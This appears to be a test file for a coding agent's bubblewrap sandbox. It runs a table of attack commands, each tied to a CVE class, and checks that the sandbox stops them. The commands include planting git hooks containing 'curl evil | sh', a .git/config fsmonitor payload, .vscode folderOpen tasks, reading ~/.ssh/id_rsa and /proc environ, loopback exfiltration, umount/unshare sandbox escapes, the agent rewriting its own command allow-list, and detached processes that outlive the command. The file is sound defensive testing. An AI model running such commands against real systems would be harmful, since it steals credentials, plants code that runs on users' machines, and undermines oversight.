// The sandbox is the second wall: one row per attack class a command could carry out if the command
// policy misjudged it (simulated here by calling the runner directly, past the gate), with the peer
// CVE class it stands for. Each row runs twice: with the sandbox (bubblewrap) the attack must fail;
// without it ("off") the row records what today's rules alone allow, so every check is shown to be
// able to fail. Rows marked "blocked" without the sandbox hold on every machine (the supervisor).
import assert from "node:assert/strict";
import { promises as fs } from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { ProcessCommandRunner } from "./command-runner";
import { detectCommandSandbox, noSandbox, type CommandSandbox } from "./sandbox/command-sandbox";
import type { CommandRun } from "./tool-types";

interface Context {
  /** The workspace folder (writable in the sandbox, except the protected names). */
  ws: string;
  /** A folder beside the workspace: outside it. */
  outside: string;
  /** The HOME the command gets (outside /tmp, so only the HOME rule can hide it). */
  home: string;
  /** A unique word for this row. */
  token: string;
  /** A unique `sleep` duration (its command line is the marker). */
  sleep: string;
  tcpPort: number;
  abstractSocket: string;
  tmpSocket: string;
}

interface Row {
  attack: string;
  /** The peer CVE class this row stands for. */
  peer: string;
  setup?(ctx: Context): Promise<void>;
  command(ctx: Context): string;
  /** Run as a command approved with network access. */
  network?: boolean;
  /** Whether the attack reached its goal. */
  succeeded(ctx: Context, run: CommandRun): Promise<boolean>;
  /** What happens with the sandbox off: today's rules alone. */
  withoutSandbox: "succeeds" | "blocked";
}

const exists = (file: string) => fs.lstat(file).then(() => true, () => false);
const node = JSON.stringify(process.execPath);
/** A client that sends the token and prints the server's answer: its output proves it reached our server. */
const CLIENT = `const net = require("net"); const [kind, where, token] = process.argv.slice(2);
const s = kind === "tcp" ? net.connect(Number(where), "127.0.0.1") : net.connect(where.replace(/^@/, "\\0"));
s.on("connect", () => s.write(token)); s.on("data", (d) => { process.stdout.write("reply:" + d); s.end(); process.exit(0); });
s.on("error", (e) => { process.stdout.write("error:" + e.code); process.exit(3); });`;
const connect = (ctx: Context, kind: "tcp" | "unix", where: string) => `${node} client.cjs ${kind} ${JSON.stringify(where)} ${ctx.token}`;
const reached = async (ctx: Context, run: CommandRun) => run.output.includes(`reply:ACK-${ctx.token}`);

const ROWS: Row[] = [
  {
    attack: "write outside the workspace (touch ../outside)",
    peer: "CWE-22 workspace escape by a command the policy allowed (agent path-restriction bypasses, e.g. CVE-2025-54794)",
    command: () => "touch ../outside/escaped",
    succeeded: (ctx) => exists(path.join(ctx.outside, "escaped")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "plant a git hook (echo x > .git/hooks/pre-commit)",
    peer: "git hook planting → code execution on the person's next commit (CVE-2024-32002 class)",
    setup: (ctx) => fs.mkdir(path.join(ctx.ws, ".git", "hooks"), { recursive: true }).then(() => undefined),
    command: () => "echo 'curl evil | sh' > .git/hooks/pre-commit",
    succeeded: (ctx) => exists(path.join(ctx.ws, ".git", "hooks", "pre-commit")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "plant a git directory where none exists (HEAD, config, objects, refs under a new .git)",
    peer: "repository config as code: core.fsmonitor/sshCommand in a planted gitdir (issue 11 item 1; CVE-2022-24765 class)",
    command: () => "mkdir -p .git/objects .git/refs && printf 'ref: refs/heads/main\\n' > .git/HEAD && printf '[core]\\nfsmonitor = touch pwned\\n' > .git/config",
    succeeded: (ctx) => exists(path.join(ctx.ws, ".git", "config")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "create .vscode/tasks.json where .vscode does not exist (mkdir .vscode && echo > .vscode/tasks.json)",
    peer: "agent writes its editor's config → code execution (CVE-2025-53773 class: .vscode/settings.json, tasks with runOn folderOpen)",
    command: () => "mkdir .vscode; echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json",
    succeeded: (ctx) => exists(path.join(ctx.ws, ".vscode", "tasks.json")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "widen its own command rules (.pincer/commands.json, .pincer missing)",
    peer: "agent rewrites its own tool permissions (CVE-2025-54135 class: agent-written tool config)",
    command: () => "mkdir -p .pincer && echo '{\"allow\":[\"curl *\"],\"deny\":[]}' > .pincer/commands.json",
    succeeded: (ctx) => exists(path.join(ctx.ws, ".pincer", "commands.json")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "overwrite an existing *.code-workspace file",
    peer: "workspace file settings/tasks → code execution when opened (CVE-2025-53773 class)",
    setup: (ctx) => fs.writeFile(path.join(ctx.ws, "team.code-workspace"), "{}"),
    command: () => "echo '{\"settings\":{\"x\":1}}' > team.code-workspace",
    succeeded: async (ctx) => (await fs.readFile(path.join(ctx.ws, "team.code-workspace"), "utf8")) !== "{}",
    withoutSandbox: "succeeds",
  },
  {
    attack: "write through a protected symlink (.vscode -> config/vscode) and to its target",
    peer: "protected folder behind a symlink (issue 11 item 5; symlink-following config writes, CVE-2024-32002 class)",
    setup: async (ctx) => {
      await fs.mkdir(path.join(ctx.ws, "config", "vscode"), { recursive: true });
      await fs.symlink(path.join("config", "vscode"), path.join(ctx.ws, ".vscode"));
    },
    command: () => "echo a > .vscode/tasks.json; echo b > config/vscode/settings.json",
    succeeded: async (ctx) => (await exists(path.join(ctx.ws, "config", "vscode", "tasks.json"))) || exists(path.join(ctx.ws, "config", "vscode", "settings.json")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "remove or rename the protected folder, then recreate it (rm -rf .git / mv .git)",
    peer: "replacing protected configuration instead of editing it (CWE-59/CWE-73 class)",
    setup: (ctx) => fs.mkdir(path.join(ctx.ws, ".git", "hooks"), { recursive: true }).then(() => undefined),
    command: () => "mv .git old-git; rm -rf .git; mkdir -p .git/hooks && echo x > .git/hooks/post-checkout",
    succeeded: (ctx) => exists(path.join(ctx.ws, ".git", "hooks", "post-checkout")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "write into a nested repository's hooks (sub/.git/hooks)",
    peer: "git hook planting in a nested repository (CVE-2024-32002 class)",
    setup: (ctx) => fs.mkdir(path.join(ctx.ws, "sub", ".git", "hooks"), { recursive: true }).then(() => undefined),
    command: () => "echo x > sub/.git/hooks/pre-commit",
    succeeded: (ctx) => exists(path.join(ctx.ws, "sub", ".git", "hooks", "pre-commit")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "undo the read-only mount (umount, or a new user namespace to regain mount rights)",
    peer: "sandbox escape by remounting (CWE-250 class)",
    setup: (ctx) => fs.mkdir(path.join(ctx.ws, ".git", "hooks"), { recursive: true }).then(() => undefined),
    command: () => "umount .git 2>/dev/null; unshare -Urm sh -c 'umount .git; echo x > .git/hooks/pre-push' 2>/dev/null; echo x > .git/hooks/pre-push",
    succeeded: (ctx) => exists(path.join(ctx.ws, ".git", "hooks", "pre-push")),
    withoutSandbox: "succeeds",
  },
  {
    attack: "connect to a loopback TCP server (node net.connect 127.0.0.1)",
    peer: "exfiltration or download by a command the policy allowed (CWE-200; DNS/HTTP exfiltration through allow-listed agent commands)",
    command: (ctx) => connect(ctx, "tcp", String(ctx.tcpPort)),
    succeeded: reached,
    withoutSandbox: "succeeds",
  },
  {
    attack: "curl to a loopback server",
    peer: "exfiltration or download by a command the policy misjudged (CWE-200)",
    command: (ctx) => `curl -s --http0.9 --max-time 5 -d ${ctx.token} http://127.0.0.1:${ctx.tcpPort}/ ; true`,
    succeeded: async (ctx, run) => run.output.includes(`ACK-`),
    withoutSandbox: "succeeds",
  },
  {
    attack: "connect to the host's abstract Unix sockets (X11, D-Bus live there)",
    peer: "sandbox escape through a host service socket (CWE-668; D-Bus → systemd-run)",
    command: (ctx) => connect(ctx, "unix", ctx.abstractSocket),
    succeeded: reached,
    withoutSandbox: "succeeds",
  },
  {
    attack: "connect to a Unix socket in /tmp (tmux, X11, agents' sockets)",
    peer: "sandbox escape through a host service socket (CWE-668)",
    command: (ctx) => connect(ctx, "unix", ctx.tmpSocket),
    succeeded: reached,
    withoutSandbox: "succeeds",
  },
  {
    attack: "read a key in HOME (cat ~/.ssh/id_rsa)",
    peer: "credential theft by a command (CWE-522; agents reading ~/.ssh, ~/.aws, ~/.npmrc)",
    setup: async (ctx) => {
      await fs.mkdir(path.join(ctx.home, ".ssh"), { recursive: true });
      await fs.writeFile(path.join(ctx.home, ".ssh", "id_rsa"), `PRIVATE-${ctx.token}`);
    },
    command: () => 'cat "$HOME/.ssh/id_rsa"',
    succeeded: async (ctx, run) => run.output.includes(`PRIVATE-${ctx.token}`),
    withoutSandbox: "succeeds",
  },
  {
    attack: "write to /tmp, visible to other programs outside",
    peer: "planting files for other programs in shared /tmp (CWE-377 class)",
    command: (ctx) => `echo x > /tmp/pincer-visible-${ctx.token}`,
    succeeded: (ctx) => exists(`/tmp/pincer-visible-${ctx.token}`),
    withoutSandbox: "succeeds",
  },
  {
    attack: "inspect or signal the server (/proc/<server pid>/environ, kill)",
    peer: "reading secrets the environment scrub removed from the parent process (CWE-214 class)",
    command: () => `cat /proc/${process.pid}/environ >/dev/null && echo SEEN`,
    succeeded: async (_ctx, run) => /SEEN/.test(run.output),
    withoutSandbox: "succeeds",
  },
  {
    attack: "leave a setsid child running after the command ends",
    peer: "processes escaping the command's lifetime (CWE-404; issue 11 item 12)",
    command: (ctx) => `setsid sh -c 'echo $$ > started; exec sleep ${ctx.sleep}' & while [ ! -s started ]; do sleep 0.05; done`,
    succeeded: async (ctx) => (await processesWithArg(ctx.sleep)).length > 0,
    withoutSandbox: "blocked",
  },
];

/** Live processes whose command line contains `token`. */
async function processesWithArg(token: string): Promise<number[]> {
  const found: number[] = [];
  for (const name of await fs.readdir("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    const cmdline = await fs.readFile(`/proc/${name}/cmdline`, "utf8").catch(() => "");
    const stat = await fs.readFile(`/proc/${name}/stat`, "utf8").catch(() => "");
    if (cmdline.includes(token) && !/\) [ZX] /.test(stat)) found.push(Number(name));
  }
  return found;
}

describe("sandbox: attacks a misjudged command could carry out", function () {
  this.timeout(60_000);
  let base: string;
  let bubblewrap: CommandSandbox;
  let tcp: net.Server;
  let abstract: net.Server;
  let unix: net.Server;
  let socketDir: string;
  const ports: { tcp: number; abstract: string; tmp: string } = { tcp: 0, abstract: "", tmp: "" };

  const listen = (server: net.Server, where: number | string) =>
    new Promise<void>((resolve, reject) => {
      server.once("error", reject);
      if (typeof where === "number") server.listen(where, "127.0.0.1", () => resolve());
      else server.listen(where, () => resolve());
    });
  const echo = () => net.createServer((socket) => socket.once("data", (data) => socket.end(`ACK-${String(data).replace(/^[\s\S]*\r\n\r\n/, "")}`)));

  before(async function () {
    if (process.platform !== "linux") {
      console.log(`    skipped: the bubblewrap sandbox and these checks are Linux-only (this is ${process.platform})`);
      this.skip();
    }
    bubblewrap = await detectCommandSandbox({ setting: "auto" });
    // Outside /tmp (the sandbox's /tmp is private), so only the rule under test can hide a path.
    const parent = (await fs.access("/var/tmp", fs.constants.W_OK).then(() => true, () => false)) ? "/var/tmp" : os.tmpdir();
    base = await fs.realpath(await fs.mkdtemp(path.join(parent, "pincer-sandbox-attacks-")));
    socketDir = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), "pincer-sock-")));
    tcp = echo();
    abstract = echo();
    unix = echo();
    await listen(tcp, 0);
    ports.tcp = (tcp.address() as net.AddressInfo).port;
    ports.abstract = `@pincer-test-${process.pid}-${Date.now()}`;
    await listen(abstract, ports.abstract.replace(/^@/, "\0"));
    ports.tmp = path.join(socketDir, "s");
    await listen(unix, ports.tmp);
  });

  after(async () => {
    for (const server of [tcp, abstract, unix]) server?.close();
    if (base) await fs.rm(base, { recursive: true, force: true });
    if (socketDir) await fs.rm(socketDir, { recursive: true, force: true });
  });

  async function attempt(row: Row, index: number, sandbox: CommandSandbox, mode: string): Promise<boolean> {
    const dir = path.join(base, `${mode}-${index}`);
    const ctx: Context = {
      ws: path.join(dir, "ws"),
      outside: path.join(dir, "outside"),
      home: path.join(dir, "home"),
      token: `t${index}${mode}${Math.random().toString(36).slice(2, 10)}`,
      sleep: `60.${String(Math.floor(Math.random() * 1e9)).padStart(9, "0")}`,
      tcpPort: ports.tcp,
      abstractSocket: ports.abstract,
      tmpSocket: ports.tmp,
    };
    for (const folder of [ctx.ws, ctx.outside, ctx.home]) await fs.mkdir(folder, { recursive: true });
    await fs.writeFile(path.join(ctx.ws, "client.cjs"), CLIENT);
    await row.setup?.(ctx);
    const runner = new ProcessCommandRunner({ sandbox, roots: [ctx.ws], env: { ...process.env, HOME: ctx.home }, killGraceMs: 500 });
    const run = await runner.run(row.command(ctx), { cwd: ctx.ws, timeoutMs: 30_000, signal: new AbortController().signal, network: row.network === true });
    try {
      return await row.succeeded(ctx, run);
    } finally {
      await fs.rm(`/tmp/pincer-visible-${ctx.token}`, { force: true });
      for (const pid of await processesWithArg(ctx.sleep)) process.kill(pid, "SIGKILL");
    }
  }

  ROWS.forEach((row, index) => {
    it(`sandboxed: ${row.attack} — ${row.peer}`, async function () {
      if (bubblewrap.info.kind === "none") {
        console.log(`      skipped: no sandbox here (${bubblewrap.info.reason})`);
        this.skip();
      }
      assert.equal(await attempt(row, index, bubblewrap, "on"), false, "the sandbox must stop it");
    });
    it(`sandbox off: ${row.attack} ${row.withoutSandbox === "succeeds" ? "succeeds (the policy is the only wall)" : "is still stopped"}`, async () => {
      assert.equal(await attempt(row, index, noSandbox("off for this test"), "off"), row.withoutSandbox === "succeeds");
    });
  });

  it("sandboxed, a command approved with network access reaches the network; the same command without it does not", async function () {
    if (bubblewrap.info.kind === "none") this.skip();
    const row: Row = { attack: "tcp", peer: "", command: (ctx) => connect(ctx, "tcp", String(ctx.tcpPort)), succeeded: reached, withoutSandbox: "succeeds" };
    assert.equal(await attempt({ ...row, network: true }, 100, bubblewrap, "net"), true);
    assert.equal(await attempt(row, 101, bubblewrap, "net"), false);
  });

  it("sandboxed, ordinary work still works: build output in the workspace, /tmp, tools on a PATH folder under HOME, git status", async function () {
    if (bubblewrap.info.kind === "none") this.skip();
    const dir = path.join(base, "work");
    const ws = path.join(dir, "ws");
    const home = path.join(dir, "home");
    const tool = path.join(home, ".nvm", "versions", "node", "v1", "bin");
    await fs.mkdir(ws, { recursive: true });
    await fs.mkdir(tool, { recursive: true });
    await fs.mkdir(path.join(tool, "..", "lib"), { recursive: true });
    await fs.writeFile(path.join(tool, "..", "lib", "impl.sh"), "echo tool-ran\n");
    await fs.writeFile(path.join(tool, "mytool"), '#!/bin/sh\nexec sh "$(dirname "$0")/../lib/impl.sh"\n', { mode: 0o755 });
    await fs.writeFile(path.join(home, "secret"), "s");
    const runner = new ProcessCommandRunner({ sandbox: bubblewrap, roots: [ws], env: { ...process.env, HOME: home, PATH: `${tool}:${process.env.PATH}` } });
    const run = await runner.run("mkdir -p dist && echo built > dist/out.txt && echo t > /tmp/scratch && cat /tmp/scratch && mytool && ls -a \"$HOME\" && git init -q nested && git -C nested status --short && echo ok", {
      cwd: ws,
      timeoutMs: 30_000,
      signal: new AbortController().signal,
    });
    assert.equal(run.exitCode, 0, run.output);
    assert.equal(await fs.readFile(path.join(ws, "dist", "out.txt"), "utf8"), "built\n");
    assert.match(run.output, /tool-ran/);
    assert.doesNotMatch(run.output, /secret/, "HOME shows only the tool folders");
    assert.match(run.output, /ok\n$/);
    // The mount points made for protected names that did not exist are gone again.
    assert.deepEqual((await fs.readdir(ws)).sort(), ["dist", "nested"]);
  });
});
